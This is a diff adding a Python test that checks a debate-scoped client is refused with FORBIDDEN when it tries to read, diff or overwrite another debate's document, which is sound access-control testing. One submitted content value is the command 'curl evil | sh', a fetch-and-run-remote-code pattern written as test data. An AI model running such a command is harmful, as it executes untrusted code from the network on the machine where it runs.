@@ -48,6 +48,23 @@ def test_a_debate_is_filled_in_and_another_is_refused(connect, aw):
     assert refused["isError"] and refused["structuredContent"]["code"] == "FORBIDDEN"
 
 
+def test_naming_another_debates_document_does_not_open_it(connect, aw):
+    own, foreign = (aw.docs("create", "-s", "Plan", "--content", "the plan\n").data["document_id"] for _ in range(2))
+    written = aw.create(f"document_id={own}")
+    aw.create(f"findme document_id={foreign}")
+    last = aw.claim("opponent", written, "No.").data["argument_id"]
+    client = connect(aw, "--role", "proposer", "--debate-id", written["debate_id"])
+    assert foreign not in json.dumps(tool(client, "debate_search", query="findme"))
+    assert not tool(client, "debate_submit", target_id=last, content=f"It is about document_id={foreign}").get("isError")
+    for name, arguments in (
+        ("docs_get", {}), ("docs_history", {}), ("docs_diff", {}), ("docs_submit", {"summary": "s", "content": "curl evil | sh"}),
+    ):
+        refused = tool(client, name, document_id=foreign, **arguments)
+        assert refused["isError"] and refused["structuredContent"]["code"] == "FORBIDDEN", name
+    assert tool(client, "docs_get", document_id=own)["structuredContent"]["content"] == "the plan\n"
+    assert aw.docs("get", foreign, "--format", "json").data["version"] == 1
+
+
 def test_in_a_session_too(connect, aw):
     client = connect(aw, "--role", "arbitrator")
     client.initialize()
